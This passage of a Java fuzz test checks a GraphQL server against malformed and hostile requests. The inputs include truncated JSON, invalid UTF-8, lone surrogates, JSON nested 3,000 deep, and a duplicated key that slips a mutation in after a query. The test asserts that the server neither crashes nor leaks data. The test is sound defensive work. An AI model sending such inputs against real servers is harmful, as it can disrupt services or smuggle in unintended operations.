        return new Attack(Target.DOCUMENT, null, PROJECT_MANAGER, text, Map.of(), null, null, null, null,
                "garbage of " + length + " characters (seed " + seed + ")");
    }

    private static Map.Entry<String, byte[]> text(String label, String body) {
        return Map.entry(label, body.getBytes(StandardCharsets.UTF_8));
    }

    private static final List<Map.Entry<String, byte[]>> BODIES = List.of(
            text("an empty body", ""),
            text("half a JSON object", "{\"query\": \"{"),
            // a body of JSON null is left out: Spring for GraphQL 2.0.6 answers it with a 500 (a NullPointerException in
            // WebGraphQlRequest, before any of this library's code runs)
            text("a JSON array", "[{\"query\": \"{ ruleCatalogue { id } }\"}]"),
            text("no query", "{}"),
            text("a number for the query", "{\"query\": 5}"),
            text("a null query", "{\"query\": null}"),
            text("an empty query", "{\"query\": \"\"}"),
            text("text for the variables", "{\"query\": \"{ ruleCatalogue { id } }\", \"variables\": \"x\"}"),
            text("a list for the variables", "{\"query\": \"{ ruleCatalogue { id } }\", \"variables\": [1]}"),
            text("an unknown operation name",
                    "{\"query\": \"query A { ruleCatalogue { id } }\", \"operationName\": \"B\"}"),
            text("two operations, none named",
                    "{\"query\": \"query A { ruleCatalogue { id } } query B { ruleCatalogue { id } }\"}"),
            text("a number for the extensions", "{\"query\": \"{ ruleCatalogue { id } }\", \"extensions\": 5}"),
            Map.entry("bytes that are not UTF-8", new byte[] {'{', '"', 'q', 'u', 'e', 'r', 'y', '"', ':', '"',
                    (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'}),
            text("a lone surrogate escaped in the query",
                    "{\"query\": \"{ participant(id: \\\"\\ud800\\\") { referrals { id } } }\"}"),
            text("a duplicated key", "{\"query\": \"{ ruleCatalogue { id } }\", \"query\": \"mutation { x }\"}"),
            text("JSON 3,000 deep", "{\"query\": \"{ ruleCatalogue { id } }\", \"variables\": {\"a\": "
                    + "[".repeat(3000) + "]".repeat(3000) + "}}"));

    private Attack body(int index) {
        var entry = BODIES.get(index);
        return new Attack(Target.BODY, null, PROJECT_MANAGER, null, null, entry.getValue(), null, null, null,
                entry.getKey());
    }

    // ---- sending ----------------------------------------------------------------------------------------------------

    /** An HTTP exchange: its status and body. */
    record Exchange(int status, String text) {
        Map<String, Object> json() {
            Object parsed = JSON.readValue(text, Object.class);
            if (!(parsed instanceof Map<?, ?>)) {
                throw new AssertionError("the response is not a JSON object: " + abbreviated(text));
            }
            @SuppressWarnings("unchecked")
            var out = (Map<String, Object>) parsed;
            return out;
        }
    }

    private static byte[] body(String document, Map<String, Object> variables) {
        var request = new LinkedHashMap<String, Object>();
        request.put("query", document);
        request.put("variables", variables);
        return JSON.writeValueAsBytes(request);
    }

    private Exchange post(Map<String, String> headers, byte[] body) {
        var request = HttpRequest.newBuilder(URI.create(endpoint())).timeout(Duration.ofSeconds(30))
                .header("Content-Type", "application/json").header("Accept", "application/json")
                .POST(HttpRequest.BodyPublishers.ofByteArray(body));
        headers.forEach(request::header);
        try {
            var response = http.send(request.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
            return new Exchange(response.statusCode(), response.body());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private Exchange send(Attack attack) {
        byte[] body = attack.raw() != null ? attack.raw() : body(attack.document(), attack.variables());
        return post(attack.viewer().headers(), body);
    }

    // ---- what the database holds --------------------------------------------------------------------------------

    private static final List<String> TABLES = List.of("referral", "enrollment", "contact", "plan_goal",
            "plan_service_referral", "flex_expenditure", "consent", "post_enrollment_case", "site_policy_version",
            "domain_event", "disclosure_entry");

    /** Row counts of the main tables, and of the audit log's entries that released nothing and that released some. */
    private Map<String, Long> snapshot() {
        String sql = TABLES.stream().map(t -> "(select count(*) from " + t + ") as " + t)
                .collect(Collectors.joining(", ", "select ", ", (select count(*) from audit_entry where outcome ="
                        + " 'DENIED') as audit_denied, (select count(*) from audit_entry where outcome <> 'DENIED')"
                        + " as audit_released"));
        var row = jdbc.queryForMap(sql);
        var out = new LinkedHashMap<String, Long>();
        row.forEach((k, v) -> out.put(k.toLowerCase(Locale.ROOT), ((Number) v).longValue()));
        return out;
    }

    // ---- the property -------------------------------------------------------------------------------------------

    @Test
    @Order(2)
    void no_hostile_request_breaks_the_server_leaks_or_writes_and_every_rejection_is_typed() {
        System.out.printf("hostile inputs: seed %d, %d examples (-Dlead.fuzz.seed, -Dlead.fuzz.examples)%n", SEED,
                EXAMPLES);
        var seen = new HashMap<String, Integer>();
        var falsified = new ArrayList<String>();
        qt().withFixedSeed(SEED).withExamples(EXAMPLES).withShrinkCycles(30).forAll(attacks())
                .checkAssert(attack -> {
                    try {
                        String outcome = check(attack);
                        seen.merge(attack.target() + " -> " + outcome, 1, Integer::sum);
                    } catch (AssertionError | RuntimeException e) {
                        if (!SURVEY) {
                            throw e;
                        }
                        falsified.add(attack + ": " + abbreviated(e));
                    }
                });
        System.out.println("hostile inputs answered: " + new java.util.TreeMap<>(seen));
        assertTrue(falsified.isEmpty(), () -> falsified.size() + " falsifying requests:\n"
                + String.join("\n", falsified));
    }

    /**
     * Free text — any code points, lone surrogates and NUL included, and the hostile texts — is either stored exactly
     * as written (trimmed) and read back so, or refused as a {@code BAD_REQUEST} naming its field; never changed on
     * the way, on either database.
     */
    @Test
    @Order(3)
    @SuppressWarnings("unchecked")
    void free_text_is_stored_as_written_or_refused_naming_its_field() {
        Operation addGoal = operations.stream().filter(o -> o.name().equals("addGoal")).findFirst().orElseThrow();
        Gen<String> hostileTexts = Generate.pick(HOSTILE.stream().filter(h -> h.value() instanceof String)
                .map(h -> (String) h.value()).toList());
        Gen<String> texts = Generate.frequency(List.of(Pair.of(3, strings().allPossible().ofLengthBetween(1, 40)),
                Pair.of(2, strings().basicMultilingualPlaneAlphabet().ofLengthBetween(1, 40)),
                Pair.of(2, hostileTexts)));
        qt().withFixedSeed(SEED).withExamples(Math.max(20, EXAMPLES / 8)).withShrinkCycles(30).forAll(texts)
                .describedAs(HostileInputScenarios::escaped).checkAssert(text -> {
                    Map<String, Object> variables = copy(addGoal.baseline());
                    ((Map<String, Object>) variables.get("input")).put("description", text);
                    Map<String, Object> response = post(CASE_MANAGER.headers(), body(addGoal.document(), variables))
                            .json();
                    var errors = (List<Map<String, Object>>) response.getOrDefault("errors", List.of());
                    if (!errors.isEmpty()) {
                        assertEquals(1, errors.size(), () -> abbreviated(errors));
                        var extensions = (Map<String, Object>) errors.get(0).get("extensions");
                        assertEquals("BAD_REQUEST", extensions.get("classification"), () -> abbreviated(errors));
                        assertEquals("input.description", extensions.get("field"), () -> abbreviated(errors));
                        return;
                    }
                    var payload = (Map<String, Object>) ((Map<String, Object>) response.get("data")).get("addGoal");
                    assertEquals(List.of(), payload.get("errors"));
                    var goals = (List<Map<String, Object>>) ((Map<String, Object>) payload.get("plan")).get("goals");
                    Object stored = goals.stream().filter(g -> g.get("id").equals(payload.get("goalId")))
                            .findFirst().map(g -> g.get("description")).orElse(null);
                    assertEquals(escaped(text.strip()), escaped(String.valueOf(stored)), "the goal reads back as written");
                });
    }

    /** Text with every character outside printable ASCII written as a Java escape, for reports. */
    static String escaped(String text) {
        var out = new StringBuilder();
        text.chars().limit(200).forEach(c -> out.append(c >= 0x20 && c < 0x7F ? String.valueOf((char) c)
                : String.format("\\u%04X", c)));
        return out + (text.length() > 200 ? "… (" + text.length() + " characters)" : "");
    }

    private static final Set<String> BAD_INPUT = Set.of("BAD_REQUEST", "FORBIDDEN", "NOT_FOUND");
    private static final Set<String> BAD_DOCUMENT = Set.of("BAD_REQUEST", "QUERY_TOO_LARGE", "InvalidSyntax",
            "ValidationError");

    /** Which classifications a rejection of this attack may carry. */
    private static Set<String> allowed(Target target) {
        switch (target) {
            case VARIABLE:
                return BAD_INPUT;
            case LITERAL:
                // written into the document, a lone surrogate makes the document itself invalid GraphQL
                return union(BAD_INPUT, Set.of("QUERY_TOO_LARGE", "InvalidSyntax"));
            case OVERSIZE:
                return Set.of("QUERY_TOO_LARGE");
            default:
                return union(BAD_DOCUMENT, Set.of("FORBIDDEN"));
        }
    }

    private static Set<String> union(Set<String> a, Set<String> b) {
        var out = new LinkedHashSet<>(a);
        out.addAll(b);
        return out;
    }

    /** Sends the attack and checks every property; returns how it was answered, for the summary. */
    @SuppressWarnings("unchecked")
    private String check(Attack attack) {
        Map<String, Long> before = snapshot();
        Exchange exchange = send(attack);
        Map<String, Long> after = snapshot();
        assertTrue(exchange.status() < 500, () -> "HTTP " + exchange.status() + ": " + abbreviated(exchange.text()));
        if (exchange.status() != 200) {
            assertTrue(attack.target() == Target.BODY, () -> "HTTP " + exchange.status() + " for a GraphQL request: "
                    + abbreviated(exchange.text()));
            assertEquals(before, after, "a request refused at the door changes nothing");
            return "HTTP " + exchange.status();
        }
        Map<String, Object> response = exchange.json();
        var errors = (List<Map<String, Object>>) response.getOrDefault("errors", List.of());
        Set<String> classifications = new LinkedHashSet<>();
        for (Map<String, Object> error : errors) {
            var extensions = (Map<String, Object>) error.getOrDefault("extensions", Map.of());
            String classification = String.valueOf(extensions.get("classification"));
            classifications.add(classification);
            assertTrue(allowed(attack.target()).contains(classification), () -> "an error classified "
                    + classification + " (allowed: " + allowed(attack.target()) + "): " + abbreviated(error));
            if (classification.equals("BAD_REQUEST") && attack.op() != null) {
                String field = String.valueOf(extensions.get("field"));
                String root = field.split("[.\\[]", 2)[0];
                assertTrue(attack.op().arguments().contains(root), () -> "a BAD_REQUEST naming " + field
                        + ", not an argument of " + attack.op() + " " + attack.op().arguments());
            }
            // a policy file is reference data, never personal: the editor is shown the line that cannot be read
            boolean policyText = "input.policyFile".equals(attack.broken());
            if (attack.hostile() != null && attack.hostile().strip().length() >= 8 && !policyText
                    && !attack.op().document().contains(attack.hostile().strip())) {
                String message = String.valueOf(error.get("message"));
                assertTrue(!message.contains(attack.hostile().strip()), () -> "the error repeats the hostile value: "
                        + abbreviated(message));
            }
        }
        if (attack.target() == Target.OVERSIZE) {
            assertEquals(List.of("QUERY_TOO_LARGE"), new ArrayList<>(classifications));
        }
        List<Map<String, Object>> payloadErrors = payloadErrors(attack, response);
        // a command's result read back without a class the viewer may not see is not a rejection of the command
        boolean refusedOutright = errors.stream().anyMatch(e -> !String.valueOf(((Map<String, Object>) e
                .getOrDefault("extensions", Map.of())).get("field")).startsWith("dataClasses."));
        boolean rejected = refusedOutright || !payloadErrors.isEmpty();
        boolean mutation = attack.op() != null && attack.op().mutation();
        Map<String, Long> changed = changes(before, after);
        if (!mutation || rejected) {
            var domain = new LinkedHashMap<>(changed);
            domain.remove("audit_denied");
            domain.remove("audit_released");
            if (mutation && attack.op().name().equals("disclose") && errors.isEmpty()) {
                // the refusal is a decision: logged once, with its event
                assertEquals(Long.valueOf(1), domain.remove("disclosure_entry"), "a refused disclosure is logged once");
                assertEquals(Long.valueOf(1), domain.remove("domain_event"), "a refused disclosure has its event");
            }
            assertEquals(Map.of(), domain, () -> (rejected ? "a rejected request" : "a query") + " changed tables: "
                    + domain + " " + abbreviated(response));
        }
        if (rejected) {
            assertEquals(null, changed.get("audit_released"), "a rejected request released nothing on the record");
            if (changed.containsKey("audit_denied")) {
                assertTrue(classifications.contains("FORBIDDEN"), () -> "refusals audited without a FORBIDDEN error: "
                        + abbreviated(response));
            }
        }
        checkNothingLeaks(attack, exchange);
        checkTextReadsBack(attack, response, rejected);
        if (exchange.text().contains("INTERNAL_ERROR")) {
            fail("INTERNAL_ERROR in " + abbreviated(exchange.text()));
        }
        return !errors.isEmpty() ? String.join("+", classifications)
                : !payloadErrors.isEmpty() ? "UserError " + payloadErrors.get(0).get("code") : "accepted";
    }

    @SuppressWarnings("unchecked")
    private static List<Map<String, Object>> payloadErrors(Attack attack, Map<String, Object> response) {
        if (attack.op() == null || !attack.op().mutation() || !(response.get("data") instanceof Map<?, ?> data)
                || !(data.get(attack.op().field()) instanceof Map<?, ?> payload)) {
            return List.of();
        }
        return (List<Map<String, Object>>) payload.get("errors");
    }

    private static Map<String, Long> changes(Map<String, Long> before, Map<String, Long> after) {
        var out = new LinkedHashMap<String, Long>();
        after.forEach((k, v) -> {
            if (!v.equals(before.get(k))) {
                out.put(k, v - before.get(k));
            }
        });
        return out;
    }

    /** A read of someone else, however the id is written, never returns the participants' records. */
    private void checkNothingLeaks(Attack attack, Exchange exchange) {
        if (attack.op() == null || attack.op().idVariable() == null || attack.broken() == null
                || !attack.broken().startsWith(attack.op().idVariable())) {
            return;
        }
        Object baseline = attack.op().baseline().get(attack.op().idVariable());
        if (attack.sent() instanceof String s && s.strip().equalsIgnoreCase(String.valueOf(baseline))) {
            return;
        }
        for (String id : theirIds) {
            assertTrue(!exchange.text().contains(id), () -> "a read of another id returned " + id + ": "
                    + abbreviated(exchange.text()));
        }
    }

    /** A goal's words accepted by the API read back exactly as written (trimmed): no injection changes them. */
    @SuppressWarnings("unchecked")
    private static void checkTextReadsBack(Attack attack, Map<String, Object> response, boolean rejected) {
        if (rejected || attack.op() == null || !attack.op().name().equals("addGoal")
                || attack.target() != Target.VARIABLE) {
            return;
        }
        var input = (Map<String, Object>) attack.variables().get("input");
        var baseline = (Map<String, Object>) attack.op().baseline().get("input");
        if (!(input.get("description") instanceof String written)
                || !baseline.get("participantId").equals(input.get("participantId"))) {
            // the plan is read back for the participant the input names (not checked against the enrollment)
            return;
        }
        var payload = (Map<String, Object>) ((Map<String, Object>) response.get("data")).get("addGoal");
        if (!(payload.get("plan") instanceof Map<?, ?> plan)) {
            throw new AssertionError("an accepted goal that its case manager cannot read back: " + payload);
        }
        var goals = (List<Map<String, Object>>) plan.get("goals");
        Object description = goals.stream().filter(g -> g.get("id").equals(payload.get("goalId"))).findFirst()
                .map(g -> g.get("description")).orElse(null);
        assertEquals(written.strip(), description, "the goal reads back as written");
    }

    static String abbreviated(Object value) {
        String text = String.valueOf(value);
        return text.length() <= 600 ? text : text.substring(0, 600) + "… (" + text.length() + " characters)";
    }
}
